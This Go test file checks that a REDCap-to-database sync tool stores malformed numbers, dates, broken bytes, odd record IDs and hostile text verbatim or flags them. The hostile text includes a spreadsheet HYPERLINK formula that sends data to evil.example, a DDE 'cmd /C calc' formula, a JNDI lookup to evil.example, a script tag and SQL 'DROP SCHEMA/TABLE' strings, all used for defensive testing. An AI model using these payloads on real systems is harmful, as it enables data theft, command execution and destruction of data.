package main

import (
	"bytes"
	"errors"
	"fmt"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	fake "syncd/internal/fake/redcap"
)

// typed is an instrument with a field of every type that a value can fail to fit.
func typed(p *fake.Project) error {
	field := func(name, validation, kind, choices string) fake.Field {
		return fake.Field{Name: name, Form: "typed", Type: kind, Validation: validation, Choices: choices, Label: name}
	}
	return p.AddForm(fake.Form{Name: "typed"}, field("v_number", "number", "text", ""), field("v_integer", "integer", "text", ""),
		field("v_date", "date_ymd", "text", ""), field("v_time", "time", "text", ""), field("v_datetime", "datetime_seconds_ymd", "text", ""),
		field("v_calc", "", "calc", "1"), field("v_radio", "", "radio", "1, One | 2, Two"), field("v_yes", "", "yesno", ""), field("v_text", "", "text", ""))
}

// valued stores values in the typed instrument, one to a record: 1, 2, 3 ...
func valued(values ...[2]string) func(*testing.T, *scene) {
	return change(func(p *fake.Project) error {
		err := typed(p)
		for i, v := range values {
			err = errors.Join(err, p.SetMany(strconv.Itoa(i+1), fake.Place{}, map[string]string{v[0]: v[1], "typed_complete": "2"}))
		}
		return err
	})
}

// misfits is the check that each value stands beside its row and nowhere else.
func misfits(values ...[2]string) func(*testing.T, contents) {
	return func(t *testing.T, holds contents) {
		t.Helper()
		for i, v := range values {
			row := holds["ward.typed"][strconv.Itoa(i+1)+"||1"]
			notes, _ := row["_nonconforming"].(map[string]any)
			if row == nil || row[v[0]] != nil || notes[v[0]] != v[1] {
				t.Errorf("%s: %.40q became %v, and beside it stands %.40q", v[0], v[1], row[v[0]], notes[v[0]])
			}
		}
	}
}

// hostileValues are R7, R8, R12, R13, R15 and R16: what people type, and what becomes of it on the way.
func hostileValues() []hostileCase {
	wrong := [][2]string{
		{"v_number", "1e400000"},
		{"v_number", "NaN"},
		{"v_number", "Infinity"},
		{"v_number", "١٢"},
		{"v_number", "0x10"},
		{"v_number", strings.Repeat("9", 200_000)},
		{"v_integer", "9223372036854775808"},
		{"v_integer", "1.5"},
		{"v_integer", "--1"},
		{"v_date", "0000-00-00"},
		{"v_date", "2023-02-30"},
		{"v_date", "31/12/2020"},
		{"v_date", "10000-01-01"},
		{"v_date", "infinity"},
		{"v_date", "today"},
		{"v_time", "24:01"},
		{"v_time", "noon"},
		{"v_datetime", "2023-02-29 10:00:00"},
		{"v_datetime", "now"},
		{"v_calc", "#NUM!"},
		{"v_radio", "3'"},
		{"v_yes", "maybe"},
	}
	texts := []string{
		"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1", "@SUM(1+1)*cmd|' /C calc'!A0", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}",
		"'; DROP SCHEMA ward CASCADE; --", "\x1b[31mred\x1b[0m", "\\.", "\\N", "a\tb\\tc", "line\r\nbreak\n\n\"quoted\",,comma", "\u202eevil\u200b", "😀\U0010ffff", "\ufeffbom", "\ufffd",
		"NULL", `\x00`, "%s%n", strings.Repeat("x", 1<<20),
	}
	var typed [][2]string
	for _, text := range texts {
		typed = append(typed, [2]string{"v_text", text})
	}
	settled := func(c hostileCase) hostileCase {
		c.changed, c.full, c.empty = true, done(), done()
		return c
	}
	return slices.Concat([]hostileCase{
		settled(hostileCase{row: "R12", name: fmt.Sprintf("%d values that fit no type", len(wrong)), arrange: valued(wrong...), check: misfits(wrong...)}),
		settled(hostileCase{row: "R16", name: fmt.Sprintf("%d texts that mean something elsewhere", len(texts)), arrange: valued(typed...), check: verbatim(texts)}),
	}, hostileBytes(), hostileIDs())
}

// verbatim is the check that texts are stored as they were typed.
func verbatim(texts []string) func(*testing.T, contents) {
	return func(t *testing.T, holds contents) {
		t.Helper()
		for i, text := range texts {
			if got := holds["ward.typed"][strconv.Itoa(i+1)+"||1"]["v_text"]; got != text {
				t.Errorf("%.60q was stored as %.60q", text, got)
			}
		}
	}
}

// hostileBytes are R8, R7 and R13: bytes that are no text, rows that are ragged or double.
func hostileBytes() []hostileCase {
	withText := valued([2]string{"v_text", "umlaut"})
	inText := func(sc *scene, bytesIn string) {
		sc.mangle = func(form url.Values, b []byte) []byte {
			return bytes.ReplaceAll(b, []byte("umlaut"), []byte(bytesIn))
		}
	}
	broken := func(name, in, note string) hostileCase {
		return hostileCase{row: "R8", name: name, changed: true, full: done(), empty: done(), check: misfits([2]string{"v_text", note}), arrange: func(t *testing.T, sc *scene) {
			withText(t, sc)
			inText(sc, in)
		}}
	}
	lines := func(change func(lines [][]byte) [][]byte) func(*testing.T, *scene) {
		return func(_ *testing.T, sc *scene) {
			sc.mangle = func(form url.Values, b []byte) []byte {
				if form.Get("format") != "csv" || !form.Has("records[1]") {
					return b
				}
				return bytes.Join(change(bytes.Split(b, []byte("\n"))), []byte("\n"))
			}
		}
	}
	ragged := map[string]int{"ragged row": 2} // one in each of two answers
	return []hostileCase{
		broken("Latin-1 in a cell", "u\xe4\xa0m", "\\x75e4a06d"),
		broken("NUL in a cell", "a\x00b", "\\x610062"),
		broken("overlong and surrogate", "\xc0\xaf\xed\xa0\x80", "\\xc0afeda080"),
		{
			row: "R7", name: "a ragged row", kind: fake.Classic, full: doneWithRejects(), empty: doneWithRejects(), rejects: ragged, changed: true, refused: -1,
			arrange: lines(func(l [][]byte) [][]byte { l[1] = append(l[1], ",extra"...); return l }),
		},
		{
			row: "R14", name: "a row twice in one answer", kind: fake.Classic, full: done(), empty: done(),
			arrange: lines(func(l [][]byte) [][]byte { return slices.Insert(l, 2, l[1]) }),
		},
		{
			row: "R13", name: "missing-data codes in every type", changed: true, full: done(), empty: done(), check: missing,
			arrange: change(func(p *fake.Project) error {
				return errors.Join(typed(p), p.SetMany("1", fake.Place{}, map[string]string{"v_number": "NI", "v_date": "UNK", "v_radio": "-99", "v_text": "NI", "typed_complete": "2"}))
			}),
		},
	}
}

func missing(t *testing.T, holds contents) {
	t.Helper()
	want := map[string]any{"v_number": "NI", "v_date": "UNK", "v_radio": "-99", "v_text": "NI"}
	if diff := cmp.Diff(want, holds["ward.typed"]["1||1"]["_missing"]); diff != "" {
		t.Errorf("_missing (-want +got):\n%s", diff)
	}
}

// hostileIDs are R15: names of records.
func hostileIDs() (cases []hostileCase) {
	named := func(ids ...string) func(*testing.T, *scene) {
		return change(func(p *fake.Project) (err error) {
			for _, id := range ids {
				err = errors.Join(err, p.AddRecord(id, map[string]string{"form_1_complete": "2"}))
			}
			return err
		})
	}
	kept := func(ids ...string) func(*testing.T, contents) {
		return func(t *testing.T, holds contents) {
			t.Helper()
			for _, id := range ids {
				if holds["ward.redcap_record"][id] == nil || holds["ward.form_1"][id+"||1"] == nil {
					t.Errorf("record of %d bytes is not stored", len(id))
				}
			}
		}
	}
	for name, ids := range map[string][]string{
		"zeros": {"0", "00", "000"}, "spaces": {" 1", "1 ", "1  1"}, "300 characters": {strings.Repeat("ä", 300)}, "2,000 bytes": {strings.Repeat("i", 2000)},
		"signs":           {"a,b", "a\"b", "a|b", "a&records[0]=1", "%00", "'; DROP TABLE ward.form_1; --", "=1+1", "[record-name]", "a;b", "😀"},
		"looks like ours": {noSuchRecord + "2", "record_id"},
	} {
		cases = append(cases, hostileCase{row: "R15", name: "ids: " + name, changed: true, full: done(), empty: done(), arrange: named(ids...), check: kept(ids...)})
	}
	long := strings.Repeat("L", 2100)
	return append(cases,
		hostileCase{
			row: "R15", name: "ids: 2,100 bytes", changed: true, full: doneWithRejects(), empty: doneWithRejects(), arrange: named(long, "after"), check: kept("after"),
			refused: 1, rejects: map[string]int{"record id over 2,000 bytes": 1},
		},
		hostileCase{row: "R15", name: "ids: twins in case", changed: true, full: done(), empty: done(), arrange: named("Twin-a", "twin-A"), refused: 1},
		hostileCase{
			row: "R8", name: "an id that is no text", changed: true, full: doneWithRejects(), empty: doneWithRejects(), refused: 1,
			rejects: map[string]int{"record id is not valid text": 1}, arrange: func(t *testing.T, sc *scene) {
				named("broken")(t, sc)
				sc.mangle = func(_ url.Values, b []byte) []byte {
					return bytes.ReplaceAll(b, []byte("broken"), []byte("bro\xffken"))
				}
			},
		},
	)
}
